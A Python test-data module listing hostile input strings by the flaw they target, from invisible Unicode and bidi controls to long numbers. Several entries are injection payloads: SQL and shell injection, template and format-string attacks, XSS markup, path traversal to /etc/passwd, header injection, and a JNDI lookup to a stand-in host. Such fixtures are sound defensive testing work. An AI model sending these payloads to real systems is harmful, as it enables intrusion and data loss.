"""Texts that have broken programs, by what they are meant to break: a table of our own, for every field there is.

Each is a text, if a strange one; what is none (bytes, numbers for strings, JSON that is none) is asked elsewhere.
"""

from __future__ import annotations

HOSTILE: dict[str, tuple[str, ...]] = {
    # PostgreSQL's text has no U+0000, and SQLite's ends there for some readers.
    "NUL": ("\x00", "a\x00b", "ann@example.com\x00.evil.example"),
    # JSON can name them, UTF-8 cannot hold them.
    "lone surrogates": ("\ud800", "\udfff", "a\udc80b"),
    "other controls": ("\x01\x02\x03\x04\x05\x06\x07\x08", "\t\x0b\x0c", "\x7f", "\u0085"),
    # Lines of a log, of a head, of a letter.
    "line ends": ("a\r\nSet-Cookie: a=1", "\nBcc: eve@example.com", "a\u2028b\u2029c", '\n{"level": "info"}'),
    "ANSI": ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[1;1H"),
    "direction": ("\u202etxt.exe", "\u2066a\u2067b\u2068c\u2069", "שלום עולם", "abc \u05d0\u05d1 123 \u0660\u0661"),
    "nothing to see": ("\u200b", "\u200c\u200d\u2060", "\ufeff", "\u00ad", "\u00a0\u2003\u3000", " ", "\U000e0041"),
    "combining": ("e" + "\u0301" * 60, "\u0301", "Z\u0351\u036b\u0343A\u0334\u0335\u031cL\u0360\u0328\u0367"),
    # One to a reader and two to a program, or longer once they are composed.
    "twins": ("e\u0301", "\u00e9", "\ufb2c" * 40, "\ufdfa", "\u212b\u00c5A\u030a", "\uff21\uff4e\uff4e", "İıſßẞ"),
    "emoji": ("👩\u200d👩\u200d👧\u200d👦", "🇩🇪🇫🇷", "1\ufe0f\u20e3", "🏴\U000e0067\U000e0062\U000e007f", "😀" * 64),
    "beyond": ("\ufffe", "\uffff", "\U0010ffff", "𠜎𠜱𝒳"),
    "numbers": ("0", "9223372036854775808", "9" * 5000, "1e999", "NaN", "0x7fffffff", "١٢٣"),
    "words of languages": ("null", "[]", "{}", "__proto__"),
    "SQL": ("' OR 1=1 --", "'; DROP TABLE users; --", "1) UNION SELECT 1 --", "$1 :email %(email)s ?"),
    "shell": ("$(touch /tmp/owned)", "`id`", "; sleep 10 #"),
    "templates": ("{{7*7}}", "${7*7}", "{% include '/etc/passwd' %}", "${jndi:ldap://evil.example/a}"),
    "format strings": ("%s%s%s%n", "{0.__class__.__mro__}", "%(password)s"),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        '<!DOCTYPE x [<!ENTITY e "e">]><x>&e;</x>',
    ),
    "paths": ("../../../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd"),
    "quotes": ('"', "'", "\\", '\\"', "\\u0000", "%00"),
    "long": ("x" * 255, "ﷺ" * 100, "a@" * 200),
    "nearly addresses": (
        "ann@example.com,eve@example.com",
        "Ann <ann@example.com>",
        '"ann eve"@example.com',
        "ann@ex\u0430mple.com",
        "ann@xn--80ak6aa92e.com",
        "a" * 64 + "@" + ".".join(["b" * 60] * 3) + ".com",
    ),
}
